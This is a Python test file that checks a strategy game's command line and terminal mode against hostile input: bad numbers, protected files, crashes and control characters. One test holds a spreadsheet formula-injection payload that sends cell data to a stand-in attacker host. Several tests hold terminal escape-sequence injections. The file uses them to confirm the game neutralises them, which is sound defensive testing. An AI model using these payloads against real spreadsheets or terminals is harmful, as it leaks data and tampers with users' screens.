"""The command line and the terminal mode with hostile input: no traceback,
no lost game, no output over an input, nothing raw printed to the terminal."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest

from game.cli import main as cli
from game.cli.main import main
from game.cli.text import TextUI
from game.report.data import collect
from game.report.export import cell, csv_tables
from game.scenario.loader import load
from game.session.game import Game
from game.session.save import load_game, save

ESCAPES = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")


def run(argv: list[str], capsys, stdin: str = "") -> tuple[int, str, str]:
    import sys

    old = sys.stdin
    sys.stdin = io.StringIO(stdin)
    try:
        code = main(argv)
    finally:
        sys.stdin = old
    cap = capsys.readouterr()
    return code, cap.out, cap.err


@pytest.fixture
def game_save(tmp_path) -> Path:
    game = Game.new(load("tutorial"), 3, humans=[0])
    game.end_turn()
    return save(game, tmp_path / "team1.json")


# ------------------------------------------------------------------ the last guard
def test_an_unexpected_error_is_one_line_a_crash_report_and_status_70(capsys, monkeypatch, tmp_path):
    def boom(args):
        raise RuntimeError("something \x1b[31mbroke\x1b[0m")

    monkeypatch.setattr(cli, "cmd_list", boom)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    code, out, err = run(["list"], capsys)
    assert code == 70
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in err and "\x1b" not in err
    assert lines[0].startswith("brinkmanship: internal error: RuntimeError: something broke; a crash report is in ")
    report = Path(lines[0].split("a crash report is in ")[1].split(" (please")[0])
    assert report.parent == tmp_path / "state" / "brinkmanship" / "crashes"
    text = report.read_text()
    assert (
        "version: " in text
        and "command: brinkmanship list" in text
        and "Traceback (most recent call last)" in text
        and "RuntimeError" in text
    )


@pytest.mark.parametrize(
    "argv, fragment",
    [
        (["play", "tutorial", "--text", "--seed", "-1"], "--seed must be from 0 to 9223372036854775807, not -1"),
        (
            ["play", "tutorial", "--text", "--seed", "1180591620717411303424"],
            "--seed must be from 0 to 9223372036854775807",
        ),
        (["play", "tutorial", "--text", "--seed", "²"], "--seed must be a whole number"),
        (["play", "tutorial", "--text", "--seed", "1e3"], "--seed must be a whole number"),
        (["simulate", "tutorial", "--workers", "100000"], "--workers must be from 1 to"),
        (["simulate", "tutorial", "--workers", "-3"], "--workers must be from 1 to"),
        (["audit", "tutorial", "--seed", "-5"], "--seed must be from 0"),
        (["play", "--load", "x.json", "--turn", "0"], "--turn must be from 1 to"),
    ],
)
def test_out_of_range_numbers_on_the_command_line_are_usage_errors(capsys, argv, fragment):
    with pytest.raises(SystemExit) as exc:
        run(argv, capsys)
    assert exc.value.code == 2
    err = capsys.readouterr().err
    assert fragment in err and "Traceback" not in err


def test_too_many_runs_is_a_one_line_usage_error(capsys):
    code, _, err = run(["simulate", "tutorial", "--runs", "100000000000"], capsys)
    assert code == 2 and err.strip() == "brinkmanship: --runs must be at most 10,000,000 (got 100000000000)"


def test_a_save_is_never_written_over_a_file_that_is_not_a_save(capsys, tmp_path):
    scenario = tmp_path / "my-crisis.yaml"
    scenario.write_text("format: 1\n")
    code, _, err = run(["play", "tutorial", "--text", "--save", str(scenario)], capsys)
    assert code == 2 and "not a Brinkmanship save; will not write a save over it" in err
    code, _, err = run(["play", "tutorial", "--text", "--save", str(tmp_path)], capsys)
    assert code == 2 and "is a folder" in err
    code, out, _ = run(["play", "tutorial", "--text"], capsys, f"save {scenario}\nquit\n")
    assert "Could not save" in out and scenario.read_text() == "format: 1\n"


def test_turn_must_exist_in_the_save(capsys, game_save):
    code, _, err = run(["play", "--load", str(game_save), "--turn", "9", "--text"], capsys)
    assert code == 2 and "there is no turn 9 to go back to (this game has turns 1 to 2)" in err


@pytest.mark.parametrize(
    "argv", [["play", "--load", "/tmp"], ["report", "/tmp"], ["play", "--load", "/dev/zero"], ["report", "/dev/null"]]
)
def test_folders_and_devices_are_not_saves(capsys, argv):
    code, _, err = run(argv, capsys)
    assert code == 2 and "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert ": error: " in err


# ------------------------------------------------------------------ report outputs
def test_report_never_overwrites_its_save(capsys, tmp_path, game_save):
    before = game_save.read_bytes()
    code, _, err = run(
        ["report", str(game_save), "--out", str(tmp_path / "team1.html"), "--json", str(game_save)], capsys
    )
    assert code == 2 and "--json" in err and "would overwrite the input" in err
    assert game_save.read_bytes() == before
    assert not (tmp_path / "team1.html").exists()  # nothing written when one output is refused
    code, _, err = run(["report", str(game_save), "--out", str(game_save)], capsys)
    assert code == 2 and game_save.read_bytes() == before


@pytest.mark.parametrize(
    "extra, fragment",
    [
        (["--out", "/tmp"], "--out /tmp: is a folder"),
        (["--json", "/tmp"], "--json /tmp: is a folder"),
        (["--csv", "{file}"], "not a folder"),
        (["--out", "{dir}/x.html", "--json", "{dir}/x.html"], "already writes"),
    ],
)
def test_report_outputs_are_checked_before_anything_is_written(capsys, tmp_path, game_save, extra, fragment):
    (tmp_path / "existing.txt").write_text("keep")
    extra = [a.format(file=tmp_path / "existing.txt", dir=tmp_path) for a in extra]
    code, _, err = run(["report", str(game_save), *extra], capsys)
    assert code == 2 and fragment in err and "Traceback" not in err
    assert (tmp_path / "existing.txt").read_text() == "keep"


def test_report_on_a_read_only_folder_is_one_line(capsys, tmp_path, game_save, monkeypatch):
    ro = tmp_path / "ro"
    ro.mkdir()
    real = os.access
    monkeypatch.setattr(os, "access", lambda p, mode, **k: False if Path(p) == ro else real(p, mode, **k))
    code, _, err = run(["report", str(game_save), "--out", str(ro / "r.html")], capsys)
    assert code == 2 and "cannot write in" in err and "read-only" in err


def test_report_writes_keep_a_backup(capsys, tmp_path, game_save):
    out = tmp_path / "r.html"
    out.write_text("older report")
    code, _, err = run(
        [
            "report",
            str(game_save),
            "--out",
            str(out),
            "--csv",
            str(tmp_path / "csv"),
            "--json",
            str(tmp_path / "v.json"),
        ],
        capsys,
    )
    assert code == 0, err
    assert (tmp_path / "r.html.bak").read_text() == "older report"
    assert json.loads((tmp_path / "v.json").read_text())["facilitator_record"]["code"] == "none"
    assert sorted(p.name for p in (tmp_path / "csv").iterdir()) == [
        "actors.csv",
        "orders.csv",
        "reflections.csv",
        "regions.csv",
        "tracks.csv",
    ]


def test_simulate_and_audit_output_passes_through_the_terminal_cleaner():
    out = io.StringIO()
    stream = cli.CleanOutput(out)
    stream.write("Title \x1b[31mred\x1b[0m\x07 done\n")
    assert out.getvalue() == "Title red done\n" and stream.getvalue() == out.getvalue()


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    game = Game.new(load("tutorial"), 3, humans=[0])
    game.end_turn()
    d = collect(game)
    evil = '=HYPERLINK("http://e.vil/?"&A1,"x")'
    d.timeline[0]["orders"][0]["orders"] = [evil, "+1", "-2", "@sum", "\tx", "\rx", "plain"]
    rows = list(csv.reader(io.StringIO(csv_tables(d)["orders.csv"])))
    cells = [r[4] for r in rows[1:8]]
    assert cells == ["'" + evil, "'+1", "'-2", "'@sum", "'\tx", "'\rx", "plain"]
    assert cell(-3.5) == -3.5  # numbers stay numbers


# ------------------------------------------------------------------ the terminal mode
def ui_for(game: Game, script: str) -> tuple[TextUI, io.StringIO]:
    out = io.StringIO()
    ui = TextUI(game, game.humans[0], out, echo=True, inp=io.StringIO(script))
    return ui, out


def test_terminal_survives_odd_digits_folders_and_control_characters(tmp_path):
    game = Game.new(load("tutorial"), 3, humans=[0])
    script = (
        "order ²\n"
        "order ٣\n"
        "٣\n"
        "cancel ²\n"
        "cancel -1\n"
        "load /tmp\n"
        "save /tmp\n"
        "\x1b[31mstatus\x07\n"
        "why \x1b]0;x\x07\n"
        "\x00\n"
        "quit\n"
    )
    ui, out = ui_for(game, script)
    assert ui.run(ui.inp) == 0
    text = out.getvalue()
    assert "no such order: '²'" in text and "Unknown command '٣'" in text and "Usage: cancel K" in text
    assert "Could not load: /tmp: error: is a folder" in text and "Could not save: /tmp: is a folder" in text
    assert not ESCAPES.search(text)


def test_names_and_ai_reasons_from_a_save_are_printed_without_escape_sequences(tmp_path):
    game = Game.new(load("tutorial"), 3, humans=[0])
    game.end_turn()
    path = save(game, tmp_path / "g.json")
    data = json.loads(path.read_text())
    ai = next(a for a in data["controllers"])
    data["turns"][0]["reasons"] = {ai: ["\x1b[2J\x1b[31mred alert\x07", "\x1b]0;owned\x07fine"]}
    path.write_text(json.dumps(data))
    ui, out = ui_for(load_game(path), "report\nquit\n")
    ui.run(ui.inp)
    assert "why: red alert" in out.getvalue() and not ESCAPES.search(out.getvalue())


def test_terminal_autosaves_at_every_end_of_turn_like_the_window(capsys, tmp_path):
    code, out, err = run(["play", "tutorial", "--text", "--seed", "4"], capsys, "order summit un\nend\n")
    assert code == 0, err
    auto = Path(os.environ["BRINKMANSHIP_HOME"]) / "saves" / "autosave-tutorial.json"
    assert auto.exists() and load_game(auto).turn == 2


def test_quit_with_unsaved_progress_saves_when_reading_a_script(capsys, tmp_path):
    target = tmp_path / "mine.json"
    code, out, _ = run(
        ["play", "tutorial", "--text", "--seed", "4", "--save", str(target)], capsys, "end\norder summit un\nquit\n"
    )
    assert code == 0 and f"Saved your progress to {target}" in out
    again = load_game(target)
    assert again.turn == 2 and len(again.pending[0]) == 1


def test_quit_with_unsaved_progress_asks_at_a_terminal(tmp_path):
    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    game = Game.new(load("tutorial"), 3, humans=[0])
    target = tmp_path / "asked.json"
    out = io.StringIO()
    ui = TextUI(game, 0, out, save_path=target, inp=Tty("order summit un\nquit\nc\nquit\ny\n"))
    ui.run(ui.inp)
    text = out.getvalue()
    assert "Your progress is not saved" in text and "Still playing." in text and "Goodbye." in text
    assert load_game(target).pending[0]


def test_the_terminal_saves_the_game_when_it_crashes(capsys, tmp_path, monkeypatch):
    from game.cli.info import InfoCommands

    def broken(self, args):
        raise RuntimeError("bug in the history table")

    monkeypatch.setattr(InfoCommands, "cmd_history", broken)
    target = tmp_path / "crash.json"
    code, out, err = run(
        ["play", "tutorial", "--text", "--seed", "4", "--save", str(target)], capsys, "order summit un\nhistory\n"
    )
    assert code == 70 and "internal error: RuntimeError: bug in the history table" in err
    assert f"it was saved to {target}" in out and load_game(target).pending[0]


def test_facilitator_nan_is_refused_at_the_terminal(capsys, tmp_path):
    script = (
        "white cell\n"
        "white cell\n"
        "facilitator\n"
        "white cell\n"
        "fac event Boom stability harbour nan\n"
        "fac set stability harbour inf\n"
        "fac event Boom stability harbour 1e400\n"
        "fac set stability harbour -1\n"
        "end\n"
        "quit\n"
    )
    target = tmp_path / "f.json"
    code, out, err = run(["play", "tutorial", "--text", "--facilitator", "--save", str(target)], capsys, script)
    assert code == 0, err
    assert out.count("Cannot do that") == 4
    text = target.read_text()
    assert "NaN" not in text and "Infinity" not in text
    assert load_game(target).interventions == []


def test_ctrl_c_saves_unsaved_progress_before_leaving(tmp_path):
    class Interrupted(io.StringIO):
        def readline(self, *a) -> str:
            line = super().readline(*a)
            if not line:
                raise KeyboardInterrupt
            return line

    game = Game.new(load("tutorial"), 3, humans=[0])
    target = tmp_path / "interrupted.json"
    out = io.StringIO()
    ui = TextUI(game, 0, out, save_path=target, inp=Interrupted("order summit un\n"))
    with pytest.raises(KeyboardInterrupt):
        ui.run(ui.inp)
    assert f"Interrupted: your game was saved to {target}" in out.getvalue()
    assert load_game(target).pending[0]
